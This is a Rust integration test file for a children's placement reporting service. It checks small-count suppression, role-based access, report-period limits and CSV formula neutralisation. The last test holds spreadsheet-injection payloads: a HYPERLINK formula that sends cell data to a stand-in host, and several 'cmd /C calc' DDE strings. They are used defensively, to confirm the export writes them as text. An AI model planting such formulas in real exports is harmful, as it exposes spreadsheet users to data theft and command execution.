    let period = json!({ "from": year_ago.to_string(), "to": today.to_string() });
    let all = app.token(
        "dm-all",
        &[
            ("alder", &["DECISION_MAKER"]),
            ("birch", &["DECISION_MAKER"]),
            ("elm", &["DECISION_MAKER"]),
        ],
    );
    let ids = json!({ "a": [app.authority_id("alder"), app.authority_id("birch"), app.authority_id("elm")], "period": period });
    let data = app.ok(&all, FLOWS, ids.clone()).await;
    let f = &data["crossBoundaryFlows"];
    // Their placements with cedar and damson (none) come under disclosure control.
    assert_eq!(f["suppressionApplied"], true);
    let cell = |from: &str, to: &str| -> Value {
        f["cells"]
            .as_array()
            .unwrap()
            .iter()
            .find(|c| c["childAuthority"]["code"] == from && c["householdAuthority"]["code"] == to)
            .unwrap()
            .clone()
    };
    assert_eq!(cell("alder", "alder")["children"]["value"], 2);
    assert_eq!(cell("alder", "birch")["children"]["value"], 1);
    assert_eq!(cell("alder", "birch")["feesPence"]["value"], 2_700_000);
    assert_eq!(cell("birch", "elm")["children"]["value"], 1);
    assert_eq!(cell("birch", "alder")["children"]["value"], 0);
    assert_eq!(cell("alder", "cedar")["children"]["value"], 0);
    assert_eq!(cell("damson", "elm")["children"]["value"], 0);
    // 4 placements, 2 across a boundary: 50 %; fees £54,000.
    assert_eq!(f["total"]["children"]["value"], 4);
    assert_eq!(f["crossBoundaryChildren"]["value"], 2);
    assert_eq!(f["crossBoundaryPercent"]["value"], 50.0);
    assert_eq!(f["crossBoundaryFeesPence"]["value"], 5_400_000);
    assert_eq!(f["byChildAuthority"][0]["children"]["value"], 3);
    // The CSV holds the same figures, the margins and the cross-boundary percentage too.
    let path = format!("/export/flows.csv?from={year_ago}&to={today}&authorities=alder,birch,elm");
    let csv = export(&app, &all, &path).await;
    for line in [
        "child_authority,household_authority,children,fees_pence,children_percent",
        "alder,alder,2,0,",
        "alder,birch,1,2700000,",
        "birch,elm,1,2700000,",
        "birch,alder,0,0,",
        "alder,TOTAL,3,2700000,",
        "birch,TOTAL,1,2700000,",
        "elm,TOTAL,0,0,",
        "TOTAL,alder,2,0,",
        "TOTAL,birch,1,2700000,",
        "TOTAL,elm,1,2700000,",
        "TOTAL,TOTAL,4,5400000,",
        "CROSS_BOUNDARY,,2,5400000,50.0",
    ] {
        assert!(csv.lines().any(|l| l == line), "{line} missing from {csv}");
    }
    // The pairs: the three authorities with each of the five of the consortium both ways.
    assert_eq!(
        csv.lines().count(),
        1 + (5 * 5 - 2 * 2) + 3 + 3 + 2,
        "{csv}"
    );

    // A period that ended yesterday holds none of them.
    let mut earlier = ids.clone();
    earlier["period"] =
        json!({ "from": year_ago.to_string(), "to": (today - chrono::Days::new(1)).to_string() });
    let data = app.ok(&all, FLOWS, earlier).await;
    assert_eq!(data["crossBoundaryFlows"]["total"]["children"]["value"], 0);

    // A board analyst is served the publication of the quarter: every small count withheld,
    // fees with them, nothing derivable.
    let analyst = app.token_with("analyst", "demo", &[], &["BOARD_ANALYST"]);
    let (quarter, quarter_end) = this_quarter();
    app.publish("demo", &quarter_end).await;
    let data = app
        .ok(&analyst, FLOWS, json!({ "period": quarter.clone() }))
        .await;
    let f = &data["crossBoundaryFlows"];
    assert_eq!(f["suppressionApplied"], true);
    assert_eq!(f["cells"].as_array().unwrap().len(), 25, "the whole matrix");
    let hidden = json!({ "value": null, "suppressed": true });
    for c in f["cells"].as_array().unwrap() {
        let n = &c["children"];
        assert!(n["value"] == 0 || *n == hidden, "{c}");
        if *n == hidden {
            assert_eq!(c["feesPence"], hidden, "a fee goes with its placements");
        }
    }
    assert_eq!(f["crossBoundaryChildren"], hidden);
    assert_eq!(f["crossBoundaryFeesPence"], hidden);
    let path = format!(
        "/export/flows.csv?from={}&to={}",
        quarter["from"].as_str().unwrap(),
        quarter["to"].as_str().unwrap()
    );
    let csv = export(&app, &analyst, &path).await;
    assert!(csv.lines().any(|l| l == "alder,birch,c,c,"), "{csv}");
    // Some authorities only, or a period of its own choosing, is no published table.
    let body = app
        .gql(
            Some(&analyst),
            FLOWS,
            json!({ "a": ids["a"], "period": quarter }),
        )
        .await;
    assert_refusal(&body, "BAD_USER_INPUT", Some("authorityIds"));
    let body = app
        .gql(Some(&analyst), FLOWS, json!({ "period": ids["period"] }))
        .await;
    assert_refusal(&body, "BAD_USER_INPUT", Some("period"));
    // A manager of one authority cannot mix its own figures with others'.
    let body = app
        .gql(Some(&app.role("alder", "MANAGER")), FLOWS, ids)
        .await;
    assert_eq!(error_code(&body).as_deref(), Some("FORBIDDEN"));
}

/// The quarter holding today (placements cannot be back-dated, so the flows tests publish
/// it) as a period, and its end.
fn this_quarter() -> (Value, String) {
    use chrono::Datelike;
    let today = chrono::Utc::now().date_naive();
    let start_month = (today.month0() / 3) * 3 + 1;
    let from = chrono::NaiveDate::from_ymd_opt(today.year(), start_month, 1).unwrap();
    let to = from + chrono::Months::new(3) - chrono::Days::new(1);
    (
        json!({ "from": from.to_string(), "to": to.to_string() }),
        to.to_string(),
    )
}

both_backends!(a_manager_sees_every_placement_involving_its_authority);

/// The cell of `f` (a `crossBoundaryFlows` answer) for a pair of authorities, if shown.
fn flow_cell<'a>(f: &'a Value, child: &str, household: &str) -> Option<&'a Value> {
    f["cells"].as_array().unwrap().iter().find(|c| {
        c["childAuthority"]["code"] == child && c["householdAuthority"]["code"] == household
    })
}

async fn a_manager_sees_every_placement_involving_its_authority(app: TestApp) {
    // Placed in the period: alder → alder ×1, alder → birch ×2 (fees), alder → cedar ×6,
    // birch → alder ×2, damson → alder ×1, and birch → elm ×1, which alder has no part in.
    let mut placements = vec![("alder", "alder", None)];
    placements.extend([("alder", "birch", Some(1_000_000)); 2]);
    placements.extend([("alder", "cedar", None); 6]);
    placements.extend([("birch", "alder", None); 2]);
    placements.push(("damson", "alder", None));
    placements.push(("birch", "elm", None));
    for (i, (child, household, fee)) in placements.into_iter().enumerate() {
        placement(&app, child, household, &format!("Flow {i}"), fee).await;
    }
    let today = chrono::Utc::now().date_naive();
    let year_ago = today - chrono::Days::new(365);
    let period = json!({ "from": year_ago.to_string(), "to": today.to_string() });
    let manager = app.role("alder", "MANAGER");
    let data = app.ok(&manager, FLOWS, json!({ "period": period })).await;
    let f = &data["crossBoundaryFlows"];
    assert_eq!(f["suppressionApplied"], true, "{f:#}");
    let children = |child: &str, household: &str| -> Value {
        flow_cell(f, child, household)
            .unwrap_or_else(|| panic!("no {child} → {household} in {f:#}"))["children"]
            .clone()
    };
    // Every placement involving alder: 1 + 2 + 6 placed by it, 1 + 2 + 1 taken by its
    // households; 12 in all, 11 of them across the boundary.
    assert_eq!(
        f["byChildAuthority"],
        json!([{ "authority": { "code": "alder" }, "children": { "value": 9, "suppressed": false } }])
    );
    assert_eq!(
        f["byHouseholdAuthority"],
        json!([{ "authority": { "code": "alder" }, "children": { "value": 4, "suppressed": false } }])
    );
    assert_eq!(f["total"]["children"]["value"], 12);
    assert_eq!(f["total"]["feesPence"]["value"], 2_000_000);
    assert_eq!(f["crossBoundaryChildren"]["value"], 11);
    assert_eq!(f["crossBoundaryFeesPence"]["value"], 2_000_000);
    assert_eq!(f["crossBoundaryPercent"]["value"], 91.7);
    assert_eq!(children("alder", "alder")["value"], 1);
    assert_eq!(children("alder", "elm")["value"], 0);
    assert_eq!(children("elm", "alder")["value"], 0);
    // A pair of 1–5 with another authority is withheld, fees with it; alder's own row
    // total would give a lone one away, so the next smallest of the row, cedar's 6, goes
    // with it. Down alder's column, birch's 2 and damson's 1 hide each other.
    let hidden = json!({ "value": null, "suppressed": true });
    for (child, household) in [
        ("alder", "birch"),
        ("alder", "cedar"),
        ("birch", "alder"),
        ("damson", "alder"),
    ] {
        assert_eq!(children(child, household), hidden, "{child} → {household}");
    }
    assert_eq!(flow_cell(f, "alder", "birch").unwrap()["feesPence"], hidden);
    // Nothing withheld can be worked out from the totals shown: in alder's row and in its
    // column, what the total leaves is shared by two withheld pairs or more.
    for (line, total) in [("alder", 9), ("TOTAL", 4)] {
        let cells: Vec<&Value> = f["cells"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|c| {
                if line == "alder" {
                    c["childAuthority"]["code"] == "alder"
                } else {
                    c["householdAuthority"]["code"] == "alder"
                }
            })
            .collect();
        let withheld = cells.iter().filter(|c| c["children"] == hidden).count();
        let shown: i64 = cells
            .iter()
            .filter_map(|c| c["children"]["value"].as_i64())
            .sum();
        assert!(withheld >= 2, "{line}: {cells:?}");
        assert!(total - shown > 0, "{line}: {cells:?}");
    }
    // Other authorities' pairs, and their totals, are not shown at all.
    for c in f["cells"].as_array().unwrap() {
        assert!(
            c["childAuthority"]["code"] == "alder" || c["householdAuthority"]["code"] == "alder",
            "{c}"
        );
    }
    assert!(flow_cell(f, "birch", "elm").is_none());
    // The CSV says the same.
    let path = format!("/export/flows.csv?from={year_ago}&to={today}");
    let csv = export(&app, &manager, &path).await;
    for line in [
        "alder,alder,1,0,",
        "alder,birch,c,c,",
        "alder,cedar,c,c,",
        "birch,alder,c,c,",
        "alder,TOTAL,9,2000000,",
        "TOTAL,alder,4,0,",
        "TOTAL,TOTAL,12,2000000,",
        "CROSS_BOUNDARY,,11,2000000,91.7",
    ] {
        assert!(csv.lines().any(|l| l == line), "{line} missing from {csv}");
    }
    assert!(!csv.contains("birch,elm"), "{csv}");
    assert!(!csv.lines().any(|l| l.starts_with("birch,TOTAL")), "{csv}");
    // A board analyst is served the quarter's publication: the whole matrix, every pair of
    // 1–5 withheld (alder's own 1 among them), the same cells in the answer and the CSV.
    let analyst = app.token_with("analyst", "demo", &[], &["BOARD_ANALYST"]);
    let (quarter, quarter_end) = this_quarter();
    app.publish("demo", &quarter_end).await;
    let data = app
        .ok(&analyst, FLOWS, json!({ "period": quarter.clone() }))
        .await;
    let f = &data["crossBoundaryFlows"];
    assert_eq!(f["cells"].as_array().unwrap().len(), 25, "{f:#}");
    for (child, household) in [
        ("alder", "alder"),
        ("alder", "birch"),
        ("birch", "alder"),
        ("damson", "alder"),
        ("birch", "elm"),
    ] {
        assert_eq!(
            flow_cell(f, child, household).unwrap()["children"],
            hidden,
            "{child} → {household}"
        );
    }
    // Every pair shown is the pair as it is.
    for (child, household, n) in [("alder", "cedar", 6), ("cedar", "alder", 0)] {
        let shown = &flow_cell(f, child, household).unwrap()["children"];
        assert!(
            shown["value"] == n || *shown == hidden,
            "{child} → {household}"
        );
    }
    let path = format!(
        "/export/flows.csv?from={}&to={}",
        quarter["from"].as_str().unwrap(),
        quarter["to"].as_str().unwrap()
    );
    let csv = export(&app, &analyst, &path).await;
    assert!(csv.lines().any(|l| l == "birch,elm,c,c,"), "{csv}");
}

both_backends!(
    report_periods_are_bounded_and_the_largest_allowed_works,
    csv_exports_write_formulas_as_text
);

/// The security issue's query: a scorecard of every year from 0001 to 9999. It is refused
/// at once, naming `period.from`, for a board analyst and for a manager alike; so are a
/// period over ten years, one ending after 2199 and an `asOf` before 1900. Ten financial
/// years work and answer ten years. The flows and the CSV export are bounded the same way.
async fn report_periods_are_bounded_and_the_largest_allowed_works(app: TestApp) {
    let analyst = app.token_with("analyst", "demo", &[], &["BOARD_ANALYST"]);
    let manager = app.role("alder", "MANAGER");
    let scorecard = |from: &str, to: &str| {
        format!(
            r#"{{ scorecard(period: {{ from: "{from}", to: "{to}" }}) {{ years {{ from to total {{ cohort {{ value suppressed }} }} }} }} }}"#
        )
    };
    for token in [&analyst, &manager] {
        for (query, field, words) in [
            (
                scorecard("0001-04-01", "9999-03-31"),
                "period.from",
                "1900-01-01",
            ),
            (
                scorecard("2015-04-01", "2026-03-31"),
                "period",
                "at most 10 years",
            ),
            (
                scorecard("2024-04-01", "2200-03-31"),
                "period.to",
                "2199-12-31",
            ),
            (
                r#"{ scorecard(asOf: "1899-12-31") { period { from } } }"#.to_owned(),
                "asOf",
                "1900-01-01",
            ),
        ] {
            let body = app.gql(Some(token), &query, json!({})).await;
            assert_refusal(&body, "BAD_USER_INPUT", Some(field));
            let message = body["errors"][0]["message"].as_str().unwrap_or_default();
            assert!(message.contains(words), "{message}");
            assert!(body["data"]["scorecard"].is_null(), "{body}");
        }
    }
    // Ten financial years are the most a period may cover, and its own figures answer them.
    let data = app
        .ok(&manager, &scorecard("2016-04-01", "2026-03-31"), json!({}))
        .await;
    let years = data["scorecard"]["years"].as_array().expect("years");
    assert_eq!(years.len(), 10, "{data}");
    assert_eq!(years[9]["to"], "2026-03-31");
    // The analyst is served the published window only: ten years are refused, naming it.
    app.publish("demo", "2026-03-31").await;
    let body = app
        .gql(
            Some(&analyst),
            &scorecard("2016-04-01", "2026-03-31"),
            json!({}),
        )
        .await;
    assert_refusal(&body, "BAD_USER_INPUT", Some("period"));
    assert!(
        body.to_string().contains("2023-04-01..2026-03-31"),
        "{body}"
    );
    let data = app
        .ok(&analyst, &scorecard("2023-04-01", "2026-03-31"), json!({}))
        .await;
    assert_eq!(data["scorecard"]["years"].as_array().unwrap().len(), 3);

    let flows = |from: &str, to: &str| {
        format!(
            r#"{{ crossBoundaryFlows(period: {{ from: "{from}", to: "{to}" }}) {{ total {{ children {{ value }} }} }} }}"#
        )
    };
    for (from, to, field) in [
        ("0001-04-01", "9999-03-31", "period.from"),
        ("2014-01-01", "2024-01-01", "period"),
    ] {
        let body = app.gql(Some(&analyst), &flows(from, to), json!({})).await;
        assert_eq!(error_field(&body).as_deref(), Some(field), "{body}");
    }
    app.ok(&manager, &flows("2014-01-02", "2024-01-01"), json!({}))
        .await;
    let body = app
        .gql(
            Some(&analyst),
            &flows("2014-01-02", "2024-01-01"),
            json!({}),
        )
        .await;
    assert_eq!(error_field(&body).as_deref(), Some("period"), "{body}");

    // More authorities named than a report takes.
    let many: Vec<String> = (0..51).map(|_| app.authority_id("alder")).collect();
    let body = app
        .gql(
            Some(&analyst),
            r#"query($ids: [ID!]) { scorecard(authorityIds: $ids) { period { from } } }"#,
            json!({ "ids": many }),
        )
        .await;
    assert_eq!(
        error_field(&body).as_deref(),
        Some("authorityIds"),
        "{body}"
    );

    // The CSV export answers 400 naming the field.
    let response = app
        .get("/export/scorecard.csv?from=0001-04-01&to=9999-03-31")
        .bearer_auth(&analyst)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 400);
    let body: Value = response.json().await.unwrap();
    assert_refusal(&body, "BAD_USER_INPUT", Some("period.from"));
}

/// Profile names a spreadsheet would run as formulas come out of the tracking export (the
/// export carrying free text) as text: a leading `'`, the cell quoted where it holds quotes
/// or commas. Tabs and carriage returns cannot start a stored name (names are trimmed); the
/// unit tests of `export::neutralise` cover them.
async fn csv_exports_write_formulas_as_text(app: TestApp) {
    let names = [
        r#"=HYPERLINK("http://x?"&A1,"Click")"#,
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "Plain Name",
    ];
    for name in names {
        // In care since 2022 with an adoption plan, not placed: on the tracking list.
        child_with(
            &app,
            "alder",
            name,
            Dates {
                entered: "2022-01-10",
                plan: Some("2022-03-01"),
                ..Default::default()
            },
        )
        .await;
    }
    let response = app
        .get("/export/tracking.csv")
        .bearer_auth(app.role("alder", "MANAGER"))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    let text = response.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let column = reader
        .headers()
        .unwrap()
        .iter()
        .position(|h| h == "profile_name")
        .expect("a profile_name column");
    let written: std::collections::BTreeSet<String> = reader
        .records()
        .map(|r| r.expect("a CSV record")[column].to_owned())
        .collect();
    for name in names {
        let expected = if name == "Plain Name" {
            name.to_owned()
        } else {
            format!("'{name}")
        };
        assert!(written.contains(&expected), "{expected:?} in {text}");
    }
    assert!(
        !written
            .iter()
            .any(|cell| cell.starts_with(['=', '+', '-', '@'])),
        "{text}"
    );
    // The raw line: the quotes of the formula doubled inside a quoted cell.
    assert!(
        text.contains(r#","'=HYPERLINK(""http://x?""&A1,""Click"")","#),
        "{text}"
    );
}
